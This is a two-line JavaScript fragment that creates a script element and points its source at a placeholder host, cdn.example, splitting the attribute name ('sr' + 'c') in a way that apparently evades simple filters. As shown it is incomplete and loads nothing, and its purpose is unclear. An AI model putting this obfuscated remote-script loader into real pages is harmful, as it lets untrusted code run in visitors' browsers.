const s = document.createElement("script");
s["sr" + "c"] = "https://cdn.example/a.js";
